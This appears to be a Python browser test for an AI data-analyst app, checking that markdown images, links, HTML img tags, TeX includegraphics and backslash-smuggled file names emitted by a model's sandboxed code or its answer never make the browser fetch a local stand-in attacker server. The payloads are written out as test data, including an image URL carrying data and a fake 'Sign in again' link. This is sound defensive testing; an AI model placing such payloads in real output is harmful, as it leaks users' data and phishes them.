"""Issue 14, point 6, in real Chromium: nothing a step writes makes the browser fetch a URL.

The sandbox has no network, the reader's browser has. A step (scripted as a model's code,
run in the real sandbox) puts markdown images and links everywhere it can: its printed
output, an exception message (which becomes an error event and the step's failure), file
names, table cells, the kernel's own log line (the local backend's notice when the process
dies), and the model's answer itself. Every request the page makes is recorded; none may go
to the attacker's server, and the attacker's server must see none.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.agent.fake_openai import FakeOpenAI, reply, tool_call
from tests.app.browser_fixtures import chat_box, open_app
from tests.app.samples import messy_csv
from tests.app.server import running_app

pytestmark = pytest.mark.browser


class Canary:
    """An HTTP server standing for the attacker: it records every request it gets."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # the stdlib calls it so
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()


def attacks(origin: str) -> tuple[str, str, str]:
    image = f"![chart](http://{origin}/image.png?data=Gizmo)"
    link = f"[Sign in again](http://{origin}/login)"
    back = chr(92)  # browsers read a backslash as a slash in http URLs; names cannot hold '/'
    file_name = "output/![n](http:" + back * 2 + origin + back + "name.png).csv"
    table_name = "output/" + link.replace("/", back) + ".parquet"
    tex = "$" + back + "includegraphics{http://" + origin + "/tex.png}$"
    lines = [
        "import pandas as pd",
        f"print({image!r})",
        f"print({'<img src=http://' + origin + '/html.png>'!r})",
        f"print({'http://' + origin + '/bare.png www.' + origin + '/www.png'!r})",
        f"open({file_name!r}, 'w').write('a,b' + chr(10) + '1,2' + chr(10))",
        f"df = pd.DataFrame({{'cell': [{image!r}, {link!r}], {image!r}: [1, 2]}})",
        f"df.to_parquet({table_name!r})",
        f"raise ValueError({image + ' ' + link + ' ' + tex!r})",
    ]
    first = "\n".join(lines) + "\n"
    # The kernel's own log line (stderr of the process) is quoted when the process dies.
    second = ("import os\n"
              f"os.write(2, {(image + ' ' + link + chr(10)).encode()!r})\n"
              "os._exit(3)\n")
    answer = (f"Done. {image} {link} <img src='http://{origin}/answer-html.png'> "
              + tex + f" http://{origin}/answer-bare")
    return first, second, answer


@pytest.mark.parametrize("backend", ["local", pytest.param("docker", marks=pytest.mark.docker)])
def test_markdown_from_a_step_never_makes_the_browser_fetch_its_url(page, tmp_path, backend,
                                                                   request):
    if backend == "docker":
        request.getfixturevalue("docker_image")
    page.set_default_timeout(120_000)
    canary = Canary()
    first, second, answer = attacks(canary.origin)
    requested: list[str] = []
    page.on("request", lambda r: requested.append(r.url))
    page.route(f"http://{canary.origin}/**", lambda route: (requested.append(route.request.url),
                                                            route.abort()))
    script = [tool_call(first, "Look at the data"), tool_call(second, "Look again"), reply(answer)]
    csv = tmp_path / "sales.csv"
    csv.write_bytes(messy_csv())
    try:
        with FakeOpenAI(script) as model, running_app(
                tmp_path / "data", ANALYST_SANDBOX_BACKEND=backend, OPENAI_API_KEY="test-key",
                OPENAI_BASE_URL=model.base_url, ANALYST_STREAM="off") as url:
            open_app(page, url)
            page.locator('[data-testid="stFileUploaderDropzoneInput"]').set_input_files(str(csv))
            page.get_by_text("sales.csv").first.wait_for()
            box = chat_box(page)
            box.fill("what is the total revenue?")
            box.press("Enter")
            page.get_by_text("Done.", exact=False).last.wait_for(timeout=180_000)
            page.wait_for_selector('[data-testid="stApp"][data-test-script-state="notRunning"]')
            for expander in page.locator('[data-testid="stExpander"] summary').all():
                expander.click()  # the error details and printed output, opened
            page.wait_for_timeout(1_500)
            # Bare URLs are shown with a zero-width space that keeps them from being links.
            text = page.locator("body").inner_text().replace("\u200b", "")
    finally:
        canary.close()
    to_attacker = [u for u in requested if canary.origin in u]
    assert to_attacker == [] and canary.hits == [], (to_attacker, canary.hits)
    # Shown, as text: the reader can still see what the step wrote.
    assert f"![chart](http://{canary.origin}/image.png?data=Gizmo)" in text
    assert "Sign in again" in text
    assert page.locator(f'img[src*="{canary.origin}"]').count() == 0
    links = page.locator(f'a[href*="{canary.origin}"]')
    assert links.count() == 0, [links.nth(i).evaluate("e => e.parentElement.parentElement.outerHTML")
                                for i in range(links.count())]
